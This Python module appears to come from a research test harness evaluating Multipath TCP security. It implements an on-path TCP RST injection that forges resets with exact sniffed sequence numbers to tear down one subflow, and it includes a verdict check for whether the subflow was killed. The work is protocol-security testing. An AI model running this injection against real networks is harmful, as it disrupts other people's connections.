"""Attack 4d, TCP RST injection into a subflow, with exactly the right sequence number.

Source: RFC 5961 §3 (blind in-window RST attacks; an on-path attacker needs no guessing) and RFC 6181 (an
attacker on one path can tear down the subflows of that path). The attacker forges RSTs on path 1 in both
directions, client -> server at the server's rcv_nxt and server -> client at the client's rcv_nxt, read off the
last segments it sniffed (right after a client data segment, so both are exact).

Effect measured: the path-1 subflow is gone from the server's `ss` (the connection survives on path 2).
"""

from __future__ import annotations

from mptcrypt.attacks.common import RST, rcv_nxt_at_server, spoof_to_client, spoof_to_server
from mptcrypt.attacks.runner import Evidence, Verdict
from mptcrypt.attacks.teardown import subflow_killed

NUMBER = 4
TITLE = "TCP RST on path 1 (exact in-window seq)"
SOURCE = "RFC 5961 §3; RFC 6181"


def reset(agent, what: str, options: list = ()) -> dict:
    v = agent.view
    if v.cport is None:
        return {"skipped": "no connection"}
    tries = agent.strike(lambda: spoof_to_server(v, RST, list(options), seq=rcv_nxt_at_server(v)),
                         lambda: spoof_to_client(v, RST, list(options), seq=v.s2c.nxt), what)
    return {"tries_until_dead": tries}


def attack(agent) -> dict:
    return reset(agent, "RST")


def judge(ev: Evidence) -> Verdict:
    return subflow_killed(ev, "path1", "RST", ("MPRstRx", "RmSubflow"))
